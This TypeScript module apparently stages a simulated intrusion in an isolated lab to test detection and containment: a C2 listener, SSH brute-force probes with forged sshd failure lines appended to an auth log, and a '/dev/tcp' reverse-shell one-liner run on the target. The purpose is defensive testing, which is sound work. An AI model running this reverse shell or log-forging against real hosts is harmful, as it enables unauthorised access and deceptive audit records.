/**
 * A scripted intrusion from the lab's attacker against one host, for demos, tests and the
 * containment benchmark. Everything stays inside the lab's namespaces:
 * 1. a command-and-control listener on the attacker (it reads, never writes);
 * 2. an SSH-style brute force: real TCP connection attempts to the host's port 22, and the
 *    matching sshd "Failed password" lines appended to the host's auth log;
 * 3. a reverse-shell command line run on the host, connecting to the C2 listener (the listener
 *    sends nothing, so the shell runs no command and exits when the connection closes).
 */
import { appendFile } from 'node:fs/promises';
import type { Lab } from './lab.ts';
import type { LabHostLayout } from './lab-layout.ts';

export interface AttackOptions {
  readonly host: LabHostLayout;
  /** The host's auth log (the file its agent tails). */
  readonly authLogPath: string;
  readonly c2Port?: number;
  readonly attempts?: number;
}

export interface AttackReport {
  readonly c2: { readonly address: string; readonly port: number };
  readonly bruteForceAttempts: number;
  readonly reverseShellCommand: string;
  readonly startedAt: string;
}

function syslogTime(date: Date): string {
  const month = date.toLocaleString('en-US', { month: 'short', timeZone: 'UTC' });
  const day = String(date.getUTCDate()).padStart(2, ' ');
  return `${month} ${day} ${date.toISOString().slice(11, 19)}`;
}

export async function runAttack(lab: Lab, options: AttackOptions): Promise<AttackReport> {
  const { host } = options;
  const attacker = lab.attacker;
  const port = options.c2Port ?? 4444;
  // 12: above the shipped SSH brute-force correlation's threshold (10 in 5 minutes).
  const attempts = options.attempts ?? 12;
  const startedAt = new Date();
  await lab.listen(attacker.namespace, '::', port, 'sink');

  const lines: string[] = [];
  for (let i = 0; i < attempts; i += 1) {
    await lab.probe(attacker.namespace, host.ipv4, 22, 300);
    const user = i % 2 === 0 ? 'root' : 'invalid user admin';
    lines.push(
      `${syslogTime(new Date())} ${host.id} sshd[${4000 + i}]: Failed password for ${user} from ${attacker.ipv4} port ${50000 + i} ssh2`,
    );
  }
  await appendFile(options.authLogPath, `${lines.join('\n')}\n`);

  const reverseShellCommand = `sh -i >& /dev/tcp/${attacker.ipv4}/${port} 0>&1`;
  const shell = await lab.spawn(host.namespace, ['bash', '-c', reverseShellCommand]);
  shell.stdout?.resume();
  shell.stderr?.resume();
  return {
    c2: { address: attacker.ipv4, port },
    bruteForceAttempts: attempts,
    reverseShellCommand,
    startedAt: startedAt.toISOString(),
  };
}
